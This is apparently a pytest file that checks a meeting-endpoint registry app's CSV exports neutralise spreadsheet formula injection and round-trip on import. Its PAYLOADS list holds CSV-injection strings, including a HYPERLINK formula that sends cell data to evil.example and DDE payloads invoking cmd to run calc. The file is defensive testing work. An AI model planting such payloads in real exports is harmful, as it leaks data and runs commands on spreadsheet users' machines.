"""Every CSV the app writes is inert in a spreadsheet program, and reads back as it was written."""

import csv
import io

import pytest
import sqlalchemy as sa

from vmeeting.core import spreadsheet
from vmeeting.core.extensions import db
from vmeeting.registry import transfer
from vmeeting.registry.models import Endpoint

#: what spreadsheet programs run when a CSV cell starts with it (OWASP, "CSV Injection")
PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", "'=1+1", "''@x"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formulas_are_neutralised_and_restored(value):
    written = spreadsheet.neutralise(value)
    assert written.startswith("'") and spreadsheet.restore(written) == value
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_bytes(["a"], [[value]]).decode("utf-8-sig"), newline="")))
    assert rows == [["a"], [written]]


@pytest.mark.parametrize("value", ["UBND xã Hòa Bình", "'trích dẫn", "0912345678", "", "a=b", 42, -2, 1.5])
def test_other_values_pass_unchanged(value):
    assert spreadsheet.neutralise(value) == value
    if isinstance(value, str):
        assert spreadsheet.restore(value) == value


def test_the_endpoint_export_is_inert_and_round_trips(client, login_as, make_endpoint):
    endpoint = make_endpoint(PAYLOADS[0], code="LS-1", contact_name="-2+3", device_model="@SUM(A1)",
                             notes="+cmd|' /C calc'!A0\nDòng hai", platform_ref="=1+1")
    login_as("viewer")
    for columns in ("", "?columns=technical"):
        data = client.get(f"/endpoints/export.csv{columns}").get_data()
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert all(not cell.startswith(spreadsheet.FORMULA_STARTS) for row in rows for cell in row), rows
        assert rows[1][1] == "'" + PAYLOADS[0]
        # Read back, the apostrophes come off: nothing changes.
        report = transfer.check_rows(transfer.read_rows("diem-cau.csv", data))
        assert report.is_valid and report.unchanged == 1, report.error_fields()
        assert report.rows[0].data["name"] == PAYLOADS[0]
    db.session.expire_all()
    assert db.session.get(Endpoint, endpoint.id).notes == "+cmd|' /C calc'!A0\nDòng hai"


def test_the_cli_export_is_inert_too(runner, tmp_path, make_endpoint):
    make_endpoint("=1+1", code="LS-1")
    path = tmp_path / "diem-cau.csv"
    assert runner.invoke(args=["endpoints", "export", str(path)]).exit_code == 0
    assert "'=1+1" in path.read_text("utf-8-sig")
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Endpoint)) == 1
